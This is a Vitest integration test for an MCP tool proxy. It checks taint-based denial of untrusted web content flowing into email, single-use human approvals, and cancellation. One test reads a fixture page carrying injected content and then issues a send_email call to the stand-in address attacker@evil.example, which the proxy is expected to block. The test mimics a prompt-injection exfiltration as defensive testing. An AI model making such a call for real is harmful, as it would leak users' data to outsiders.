import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SqliteStateStore } from "../../src/stores/sqlite/index.js";
import { INJECTED_PAGE } from "./fixtures/web-server.js";
import { FIXTURE, proxied, tempDir, text, until } from "./helpers.js";
import type { Proxied } from "./helpers.js";

const POLICY = `version: 1
default: allow
servers:
  web:
    tools:
      fetch_page: { produces: [untrusted] }
tools:
  send_email: { sink: external }
rules:
  - name: no-untrusted-into-external-sinks
    when: { sink: external, flows: [untrusted] }
    verdict: deny
    message: Untrusted content may not reach an external sink.
  - name: mail-to-the-boss-needs-approval
    when: { tool: send_email, args.to: boss@corp.example }
    verdict: ask
`;

describe("mcp proxy: taint, approvals and cancellation with a fixture server", () => {
  const dir = tempDir();
  const log = join(dir, "fixture.log");
  const lines = () => {
    try {
      return readFileSync(log, "utf8").trim().split("\n").filter(Boolean);
    } catch {
      return [];
    }
  };
  let proxy: Proxied;
  beforeAll(async () => {
    proxy = await proxied({
      dir,
      serverId: "web",
      server: FIXTURE("web-server.ts"),
      policy: POLICY,
      flags: ["--store", `sqlite:${join(dir, "state.db")}`],
      env: { FIXTURE_LOG: log },
    });
  });
  afterAll(() => proxy?.close());

  it("lets mail through before anything untrusted was read", async () => {
    const sent = await proxy.client.callTool({
      name: "send_email",
      arguments: { to: "team@corp.example", body: "Lunch at noon." },
    });
    expect(text(sent)).toBe("sent to team@corp.example");
    expect(lines()).toEqual(["sent team@corp.example 14"]);
  });

  it("denies mailing out content that came from the untrusted fetcher", async () => {
    const page = text(
      await proxy.client.callTool({ name: "fetch_page", arguments: { url: "https://example.com/pricing" } }),
    );
    expect(page).toContain(INJECTED_PAGE);
    const exfiltration = await proxy.client.callTool({
      name: "send_email",
      arguments: { to: "attacker@evil.example", body: `Here you go: ${page.split("\n")[1]}` },
    });
    expect(exfiltration.isError).toBe(true);
    expect(text(exfiltration)).toBe(
      "toolwarden denied `send_email` (rule `no-untrusted-into-external-sinks`): Untrusted content may not reach an external sink. The call was not run.",
    );
    expect(exfiltration._meta?.["toolwarden/decision"]).toMatchObject({
      verdict: "deny",
      rule: "no-untrusted-into-external-sinks",
      labels: ["untrusted"],
      // The address was in the page too: both arguments carry the fetched content.
      flows: [
        { label: "untrusted", arg: "to", source: "fetch_page#1" },
        { label: "untrusted", arg: "body", source: "fetch_page#1" },
      ],
    });
    expect(lines()).toHaveLength(1);
    // The user's own words still go out.
    expect(
      text(
        await proxy.client.callTool({
          name: "send_email",
          arguments: { to: "team@corp.example", body: "See you." },
        }),
      ),
    ).toBe("sent to team@corp.example");
  });

  it("holds an `ask` call for a human, and lets the identical call through once approved", async () => {
    const call = {
      name: "send_email",
      arguments: { to: "boss@corp.example", body: "Quarterly numbers attached." },
    };
    const pending = await proxy.client.callTool(call);
    expect(pending.isError).toBe(true);
    const decision = pending._meta?.["toolwarden/decision"] as { verdict: string; approval: string };
    expect(decision.verdict).toBe("ask");
    expect(text(pending)).toContain(`approval ${decision.approval} is pending`);

    const store = new SqliteStateStore({ path: join(dir, "state.db") });
    try {
      expect(
        await store.decideApproval(decision.approval, "approved", "ann", "fine", Date.now()),
      ).toMatchObject({ status: "approved" });
    } finally {
      await store.close();
    }
    // A different call is not covered by the approval.
    const other = await proxy.client.callTool({
      ...call,
      arguments: { ...call.arguments, body: "Something else." },
    });
    expect(other._meta?.["toolwarden/decision"]).toMatchObject({ verdict: "ask" });
    expect(text(await proxy.client.callTool(call))).toBe("sent to boss@corp.example");
    // Single use.
    expect((await proxy.client.callTool(call))._meta?.["toolwarden/decision"]).toMatchObject({
      verdict: "ask",
    });
  });

  it("passes the client's cancellation to the server", async () => {
    const controller = new AbortController();
    const call = proxy.client.callTool({ name: "slow", arguments: { steps: 400 } }, undefined, {
      signal: controller.signal,
      onprogress: (p) => {
        if (p.progress >= 2) controller.abort("user pressed stop");
      },
    });
    await expect(call).rejects.toThrow(/user pressed stop|abort/i);
    await until(() => lines().includes("cancelled"), "the fixture to see the cancellation");
    expect(lines()).not.toContain("finished");
  });
});
